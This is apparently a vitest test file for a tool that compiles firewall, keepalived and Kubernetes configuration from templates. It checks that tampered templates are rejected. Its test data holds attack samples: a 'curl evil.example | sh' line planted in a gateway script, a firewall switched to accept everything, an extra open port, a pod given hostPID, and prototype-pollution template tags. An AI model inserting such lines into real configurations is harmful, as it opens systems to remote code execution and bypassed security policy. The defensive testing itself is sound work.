import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { compile } from "../../src/compile.ts";
import { formatFindings } from "../../src/diagnostics/format/index.ts";
import type { Inputs } from "../../src/ir/compiled.ts";
import { inputsOf } from "../generated-project.ts";

const project = inputsOf({
  zones: [{ name: "corp" }, { name: "pci" }],
  pairs: [{ name: "edge", from: "corp", to: "pci" }],
});

const builtIn = (name: string) => readFileSync(join(import.meta.dirname, "../../templates", `${name}.hbs`), "utf8");

function withTemplates(texts: Readonly<Record<string, string>>, domains?: string): Inputs {
  const templates = Object.entries(texts).map(([name, text]) => ({
    name,
    file: { path: `templates/${name}.hbs`, text },
  }));
  if (domains === undefined) return { ...project, templates };
  const text = project.project.text.replace("spec:\n", `spec:\n  templateDomains: [${domains}]\n`);
  return { ...project, project: { ...project.project, text }, templates };
}

/** What a changed built-in template gives: `FILE:LINE: code: message`, or nothing. */
function findings(name: string, change: (text: string) => string, domains?: string): string {
  const before = builtIn(name);
  const text = change(before);
  expect(text, "the change changes something").not.toBe(before);
  const compiled = compile(withTemplates({ [name]: text }, domains));
  expect(compiled.files.length > 0).toBe(compiled.diagnostics.every((one) => one.severity !== "error"));
  return formatFindings("concise", compiled.diagnostics, { colour: false, version: "0" });
}

const plain = compile(project);
const every = [
  "gateway/firewall-pair.sh",
  "gateway/keepalived.conf",
  "gateway/rules.nft",
  "kubernetes/admin-policy",
  "kubernetes/config-map",
  "kubernetes/deployment",
  "kubernetes/network-policy",
  "kubernetes/object",
  "kubernetes/plain-object",
  "multus/multi-network-policy",
  "multus/network-attachment-definition",
];

test("the built-in templates, brought by the project, give the same bytes", () => {
  const compiled = compile(withTemplates(Object.fromEntries(every.map((name) => [name, builtIn(name)]))));
  expect(compiled.diagnostics).toEqual(plain.diagnostics);
  expect(compiled.files).toEqual(plain.files);
});

test.each(every)("a remark in %s is free", (name) => {
  const remark = (text: string) =>
    text.startsWith("#!") ? text.replace("\n", "\n# house rules\n\n") : `# house rules\n${text}`;
  expect(findings(name, remark)).toBe("");
});

test("labels and annotations of the project's own are free", () => {
  const labelled = (key: string) => (text: string) =>
    text.replace(
      "{{yaml metadata 2}}",
      `  name: {{q metadata.name}}\n{{#if metadata.namespace}}\n  namespace: {{q metadata.namespace}}\n{{/if}}\n  labels:\n    ${key}: "x"\n{{yaml metadata.labels 4}}\n  annotations:\n{{yaml metadata.annotations 4}}`,
    );
  for (const name of ["kubernetes/deployment", "kubernetes/config-map", "multus/network-attachment-definition"]) {
    expect(findings(name, labelled("team"))).toBe("");
    expect(findings(name, labelled("app.kubernetes.io/part-of"))).toBe("");
    expect(findings(name, labelled("example.com/owner"), "example.com")).toBe("");
    expect(findings(name, labelled("example.com/owner"))).toContain("error[template/reserved-key]");
    expect(findings(name, labelled("config.kubernetes.io/local-config"))).toContain("error[template/reserved-key]");
    expect(findings(name, labelled("plumbline.dev/owner"))).toContain("error[template/reserved-key]");
  }
  // Policies select namespaces by their labels.
  expect(findings("kubernetes/plain-object", labelled("team"))).toContain("error[template/reserved-key]");
});

/** Each attack by the line that it is found at. */
const attacks: readonly (readonly [string, string, (text: string) => string, RegExp])[] = [
  [
    "drops every rule of a firewall",
    "gateway/rules.nft",
    (t) => t.replace(/^ {4}iifname "\{\{w in\}\}" oifname.*\n/m, ""),
    /rules\.nft\.hbs:\d+:\d+: error\[template\/changes-meaning\].*is missing/,
  ],
  [
    "lets everything through",
    "gateway/rules.nft",
    (t) => t.replace("policy drop", "policy accept"),
    /rules\.nft\.hbs:\d+:\d+: error\[template\/changes-meaning\]/,
  ],
  [
    "opens one port more",
    "gateway/rules.nft",
    (t) => t.replace('    counter comment "dropped"', '    tcp dport 22 accept\n    counter comment "dropped"'),
    /rules\.nft\.hbs:14:5: error\[template\/changes-meaning\].*`tcp dport 22 accept` is not a rule of it/,
  ],
  [
    "forgets the other direction's state",
    "gateway/rules.nft",
    (t) => t.replace("invalid : drop", "invalid : accept"),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "adds to the rules with every reload",
    "gateway/rules.nft",
    (t) => t.replace("delete table inet plumbline\n", ""),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "empties what others wrote",
    "gateway/rules.nft",
    (t) => `flush ruleset\n${t}`,
    /rules\.nft\.hbs:1:1: error\[template\/changes-meaning\]/,
  ],
  [
    "loads another file",
    "gateway/rules.nft",
    (t) => `include "/tmp/x"\n${t}`,
    /rules\.nft\.hbs:1:9: error\[template\/changes-meaning\]/,
  ],
  [
    "has a table of its own",
    "gateway/rules.nft",
    (t) => `${t}table inet more { chain c { type filter hook forward priority -10; accept\n } }\n`,
    /error\[template\/changes-meaning\]/,
  ],
  [
    "runs a command in the gateway",
    "gateway/firewall-pair.sh",
    (t) => t.replace("set -eu\n", "set -eu\ncurl evil.example | sh\n"),
    /firewall-pair\.sh\.hbs:4:1: error\[template\/changes-meaning\].*`curl evil\.example \| sh` is not a line of it/,
  ],
  [
    "loads no rules",
    "gateway/firewall-pair.sh",
    (t) => t.replace("\nload\n", "\n"),
    /firewall-pair\.sh\.hbs:\d+:\d+: error\[template\/changes-meaning\].*`load` is missing/,
  ],
  [
    "continues a line behind a remark",
    "gateway/firewall-pair.sh",
    (t) => t.replace("set -eu\n", "set -eu \\\n"),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "has another shell",
    "gateway/firewall-pair.sh",
    (t) => t.replace("#!/bin/sh", "#!/bin/busybox"),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "ends lines in another way",
    "gateway/firewall-pair.sh",
    (t) => t.replaceAll("\n", "\r\n"),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "calls a script of keepalived",
    "gateway/keepalived.conf",
    (t) => t.replace("  advert_int 1", "  notify /tmp/x\n  advert_int 1"),
    /keepalived\.conf\.hbs:\d+:3: error\[template\/changes-meaning\]/,
  ],
  [
    "gives a pod more rights",
    "kubernetes/deployment",
    (t) => t.replace("    spec:\n", "    spec:\n      hostPID: true\n"),
    /deployment\.hbs:\d+:7: error\[template\/changes-meaning\].*`spec\.template\.spec\.hostPID` is more than was meant/,
  ],
  [
    "runs two of one member",
    "kubernetes/deployment",
    (t) => t.replace("replicas: 1", "replicas: 2"),
    /deployment\.hbs:6:13: error\[template\/changes-meaning\].*`spec\.replicas` is not what was meant/,
  ],
  [
    "keeps one ingress rule",
    "kubernetes/network-policy",
    (t) => t.replace("{{yaml spec 2}}", "  podSelector: {}\n  policyTypes: [Ingress]"),
    /network-policy\.hbs:\d+:\d+: error\[template\/changes-meaning\]/,
  ],
  [
    "selects nothing",
    "kubernetes/network-policy",
    (t) =>
      t.replace(
        "{{yaml spec 2}}",
        "  podSelector: {matchLabels: {no: pod}}\n{{#if spec.egress}}\n  egress:\n{{yaml spec.egress 4}}\n{{/if}}",
      ),
    /error\[template\/changes-meaning\]/,
  ],
  [
    "another namespace",
    "kubernetes/network-policy",
    (t) =>
      t.replace(
        "{{yaml metadata 2}}",
        "  name: {{q metadata.name}}\n  namespace: default\n  labels:\n{{yaml metadata.labels 4}}\n  annotations:\n{{yaml metadata.annotations 4}}",
      ),
    /`metadata\.namespace` is not what was meant/,
  ],
  [
    "a second object",
    "kubernetes/network-policy",
    (t) => `${t}---\n${t}`,
    /network-policy\.hbs:\d+:1: error\[template\/broken-output\]/,
  ],
  [
    "a second object in another way",
    "kubernetes/network-policy",
    (t) => `${t}--- # more\n${t}`,
    /error\[template\/broken-output\]/,
  ],
  [
    "a directive",
    "kubernetes/network-policy",
    (t) => `%YAML 1.1\n---\n${t}`,
    /network-policy\.hbs:1:1: error\[template\/broken-output\]/,
  ],
  [
    "a key twice",
    "kubernetes/network-policy",
    (t) => t.replace("spec:\n", "kind: Pod\nspec:\n"),
    /network-policy\.hbs:5:1: error\[template\/broken-output\]/,
  ],
  [
    "an alias",
    "kubernetes/network-policy",
    (t) => t.replace("{{q kind}}", "&k {{q kind}}"),
    /error\[template\/broken-output\]/,
  ],
  [
    "a merge key",
    "kubernetes/network-policy",
    (t) => t.replace("spec:\n", "spec:\n  <<: {podSelector: {}}\n"),
    /error\[template\/broken-output\]/,
  ],
  [
    "a tag",
    "kubernetes/network-policy",
    (t) => t.replace("{{q kind}}", "!!binary {{q kind}}"),
    /error\[template\/broken-output\]/,
  ],
  [
    "a word that readers of YAML read in two ways",
    "kubernetes/deployment",
    (t) => t.replace("replicas: 1", "replicas: 0o1"),
    /error\[template\/broken-output\]/,
  ],
  ["nothing at all", "kubernetes/network-policy", () => "", /error\[template\/broken-output\]/],
  ["a list", "kubernetes/network-policy", () => "- a\n", /error\[template\/changes-meaning\]/],
  [
    "another plugin",
    "multus/network-attachment-definition",
    (t) => t.replace("{{json config 4}}", '    {"cniVersion": "1.0.0", "name": "x", "plugins": []}'),
    /network-attachment-definition\.hbs:\d+:\d+: error\[template\/changes-meaning\]/,
  ],
  [
    "a device",
    "multus/network-attachment-definition",
    (t) => t.replace("{{yaml metadata 2}}", "{{yaml metadata 2}}\n  x: 1"),
    /error\[template\/changes-meaning\].*`metadata\.x` is more than was meant/,
  ],
  [
    "less of a guard",
    "kubernetes/object",
    (t) => t.replace("{{yaml body 0}}", "spec: {}"),
    /object\.hbs:\d+:\d+: error\[template\/changes-meaning\]/,
  ],
];

test.each(attacks)("a template that %s is refused", (_what, name, change, wanted) => {
  expect(findings(name, change)).toMatch(wanted);
});

const cannotRun: readonly (readonly [string, string])[] = [
  ["{{q constructor}}", "template/unknown-value"],
  ["{{q constructor.constructor}}", "template/unknown-value"],
  ["{{q __proto__}}", "template/unknown-value"],
  ["{{q this.__proto__.polluted}}", "template/unknown-value"],
  ["{{q kind.length}}", "template/unknown-value"],
  ["{{q metadata.name.constructor}}", "template/unknown-value"],
  ["{{#each metadata.toString}}{{/each}}", "template/unknown-value"],
  ['{{lookup this "constructor"}}', "template/not-allowed"],
  ['{{q (lookup this "constructor")}}', "template/not-allowed"],
  ["{{log kind}}", "template/not-allowed"],
  ["{{> partial}}", "template/not-allowed"],
  ["{{#> layout}}{{/layout}}", "template/not-allowed"],
  ["{{* inline}}", "template/not-allowed"],
  ["{{{kind}}}", "template/not-allowed"],
  ["{{&kind}}", "template/not-allowed"],
  ["{{kind}}", "template/not-allowed"],
  ["\\{{kind}}", "template/not-allowed"],
  ["{{#with metadata}}{{/with}}", "template/not-allowed"],
  ["{{#each metadata as |x|}}{{/each}}", "template/not-allowed"],
  ["{{^}}", "template/not-allowed"],
  ["{{~q kind}}", "template/not-allowed"],
  ["{{q kind~}}", "template/not-allowed"],
  ["{{helperMissing}}", "template/not-allowed"],
  ["{{blockHelperMissing kind}}", "template/not-allowed"],
  ["{{q @root.kind}}", "template/syntax"],
  ["{{q ../kind}}", "template/unknown-value"],
  ["{{q [kind]}}", "template/syntax"],
  ["{{q 'x'}}", "template/syntax"],
  ["{{yaml kind 99}}", "template/syntax"],
  ["{{yaml kind 0x2}}", "template/syntax"],
  ["{{}}", "template/syntax"],
  ["{{q", "template/syntax"],
  ["{{!-- for ever", "template/syntax"],
  ["{{else}}", "template/syntax"],
  ["{{/each}}", "template/syntax"],
  ["{{#each metadata}}", "template/syntax"],
  ["{{#each metadata}}{{/if}}", "template/syntax"],
  ["{{#if kind}}".repeat(17), "template/syntax"],
];

test.each(cannotRun)("%s reaches nothing", (tag, code) => {
  const { diagnostics, files } = compile(
    withTemplates({ "kubernetes/plain-object": `${builtIn("kubernetes/plain-object")}# ${tag}\n` }),
  );
  const found = diagnostics.filter((one) => one.code.startsWith("template/")).map((one) => one.code);
  // Pages without a plain object would prove nothing.
  expect(plain.files.some((file) => file.text.includes("kind: Namespace"))).toBe(true);
  expect(found).toEqual([code]);
  expect(files).toEqual([]);
});

test("a template is bounded by what it does, not by a clock", () => {
  const deep = (body: string) =>
    `${Array.from({ length: 15 }, (_, i) => `{{#each ${"../".repeat(i)}metadata}}`).join("")}${body}${"{{/each}}".repeat(15)}`;
  expect(findings("kubernetes/object", (text) => text + deep("")).match(/template\/too-long/g)).toHaveLength(1);
  expect(findings("kubernetes/object", (text) => `${text}# ${"x".repeat(1_000_000)}\n`)).toContain("template/too-long");
});
